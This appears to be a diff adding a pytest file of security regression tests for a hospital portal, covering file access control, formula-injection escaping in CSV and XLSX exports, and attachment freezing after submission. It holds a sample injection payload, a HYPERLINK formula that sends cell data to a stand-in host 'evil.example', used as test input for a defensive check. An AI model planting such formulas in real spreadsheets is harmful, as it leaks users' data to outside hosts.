@@ -1,0 +1,163 @@
+"""Hardening (issue 12): what an attacker and bad input did to the portal, one test per point.
+
+Each test here failed on the code before the fix it names."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.fixtures import DEMO_PASSWORD  # noqa: F401
+
+HOSPITAL_A = ("clinician_a", "depthead_a", "qc_a", "medaffairs_a", "ethics_a", "expert_a", "head_a")
+
+
+# ---------------------------------------------------------------- 2. files: exactly the record's readers
+
+
+async def test_a_file_is_readable_by_exactly_those_who_read_its_record(deployment, login_as):
+    """Issue 12.2: a filing's material went to every hospital user (sequential ids) although
+    only medical affairs and the head read the filing. Now ``/files/{id}`` answers 200 to
+    exactly the users who get 200 on the record the file belongs to, for filings and
+    admission projects alike."""
+    from core.storage.tables import Attachment
+    from tests.test_tenancy import filing_of
+
+    from core.admission import service as admission
+    from tests import admission_helpers as adm
+
+    await filing_of(deployment, deployment["hospital_a"])
+    await adm.attachment_route(deployment, deployment["hospital_a"])
+    lead = await adm.actor("clinician_a")
+    draft = await admission.create_project(lead, deployment["host"].view(), admission.NewProject(
+        title="草稿附件测试", path="temporary", outside_lists=True))
+    await admission.attach(lead, draft, "草稿.png", adm.PNG, "evidence")
+    rows = await Attachment.select(Attachment.id, Attachment.owner_type, Attachment.owner_id).where(
+        Attachment.institution == deployment["hospital_a"])
+    owners = {"filing": "/filings/{}", "project": "/admission/projects/{}"}
+    assert {r["owner_type"] for r in rows} >= {"filing", "project"}
+    checked = 0
+    for username in HOSPITAL_A:
+        client = await login_as(username)
+        for row in rows:
+            record = await client.get(owners[row["owner_type"]].format(row["owner_id"]))
+            file = await client.get(f"/files/{row['id']}")
+            assert record.status_code in (200, 404)
+            assert file.status_code == record.status_code, (
+                f"{username}: {row['owner_type']} {row['owner_id']} → {record.status_code}, "
+                f"its file {row['id']} → {file.status_code}")
+            checked += 1
+    clinician = await login_as("clinician_a")
+    filing_files = [r for r in rows if r["owner_type"] == "filing"]
+    assert (await clinician.get(f"/files/{filing_files[0]['id']}")).status_code == 404
+    assert checked >= len(HOSPITAL_A) * 2
+
+
+# ---------------------------------------------------------------- 4. formula injection in exports
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+
+
+def _cells(content: bytes) -> list:
+    import io
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(content))
+    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+
+
+async def test_a_department_named_as_a_formula_reaches_the_qc_export_as_text(deployment, login_as):
+    """Issue 12.4: a department renamed ``=HYPERLINK(…)`` reached /qc/export.xlsx as a live
+    formula. Now every cell is text; the name reads exactly as typed."""
+    from core.cases import service as cases
+    from core.tenancy.tables import Department
+    from tests import case_helpers as ch
+
+    hooks = deployment["host"].view()
+    project_id = await ch.admitted(hooks, tech_class="routine")
+    clinician = await ch.actor("clinician_a")
+    await cases.record_cases(clinician, hooks, [ch.case_input(project_id)], source="web", label="formula")
+    department = clinician.department_id
+    before = await Department.select(Department.name).where(Department.id == department).first()
+    await Department.update({Department.name: EVIL}).where(Department.id == department)
+    try:
+        client = await login_as("medaffairs_a")
+        export = await client.get("/qc/export.xlsx?period=all")
+    finally:
+        await Department.update({Department.name: before["name"]}).where(Department.id == department)
+        await ch.release_obligations()
+    assert export.status_code == 200
+    cells = _cells(export.content)
+    assert any(c.value == EVIL for c in cells), "the department's name is in the export, as typed"
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
+
+
+def test_every_export_goes_through_the_safe_writers():
+    """Every spreadsheet the portal writes is made by ``core.exports`` (which escapes
+    formula-like text): no module saves a workbook or writes CSV by itself."""
+    import pathlib
+    import re
+
+    root = pathlib.Path(__file__).resolve().parent.parent
+    offenders = []
+    for path in [*root.glob("core/**/*.py"), *root.glob("web/**/*.py"), *root.glob("plugins/**/*.py")]:
+        if path.name == "exports.py" or "piccolo_migrations" in path.parts:
+            continue
+        text = path.read_text()
+        if re.search(r"\bwb\.save\(|\.save\(out\)|csv\.writer\(|csv\.DictWriter\(", text):
+            offenders.append(str(path.relative_to(root)))
+    assert not offenders, f"write spreadsheets through core.exports: {offenders}"
+
+
+def test_formula_like_text_is_escaped_in_csv_and_xlsx():
+    import csv
+    import io
+
+    from openpyxl import Workbook
+
+    from core.exports import csv_bytes, xlsx_bytes
+
+    values = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "普通文字", "a=b"]
+    rows = list(csv.reader(io.StringIO(csv_bytes([values]).decode("utf-8-sig"))))
+    assert rows[0][:5] == ["'" + v for v in values[:5]] and rows[0][5:] == values[5:]
+    wb = Workbook()
+    wb.active.append(values + [-5, 3.5])
+    cells = _cells(xlsx_bytes(wb))
+    assert [c.value for c in cells] == values + [-5, 3.5]
+    assert not [c for c in cells if c.data_type == "f"]
+
+
+# ---------------------------------------------------------------- 8. the evidence freezes with the submission
+
+
+async def test_attachments_freeze_with_the_submitted_version(deployment, login_as):
+    """Issue 12.8: the lead could add attachments to a project under review and to an
+    admitted one. Now both are refused with a Chinese message and nothing is stored; a
+    return for revision opens the project (and its attachments) again."""
+    from core.admission import service as admission
+    from core.admission.tables import Project
+    from core.storage.tables import Attachment
+    from tests import admission_helpers as adm
+    from tests import case_helpers as ch
+
+    hooks = deployment["host"].view()
+    lead = await login_as("clinician_a")
+    admitted = await ch.admitted(hooks, tech_class="routine")
+    under_review = (await adm.project_route(deployment, deployment["hospital_a"]))["project_id"]
+    for project_id in (under_review, admitted):
+        before = await Attachment.count().where((Attachment.owner_type == "project")
+                                                & (Attachment.owner_id == project_id))
+        response = await lead.post(f"/admission/projects/{project_id}/attachments", data={"kind": "evidence"},
+                                   files={"file": ("补充.png", adm.PNG, "image/png")})
+        assert response.status_code == 409, (project_id, response.status_code)
+        assert "附件随提交的版本冻结" in response.text
+        assert await Attachment.count().where((Attachment.owner_type == "project")
+                                              & (Attachment.owner_id == project_id)) == before
+    await ch.release_obligations()
+    # Returned for revision: the lead may attach again (a new revision follows on resubmission).
+    project_id = await admission.create_project(await adm.actor("clinician_a"), hooks, admission.NewProject(
+        title="退回后补充材料", path="temporary", outside_lists=True))
+    await Project.update({Project.status: "returned"}).where(Project.id == project_id)
+    response = await lead.post(f"/admission/projects/{project_id}/attachments", data={"kind": "evidence"},
+                               files={"file": ("补充.png", adm.PNG, "image/png")})
+    assert response.status_code == 303
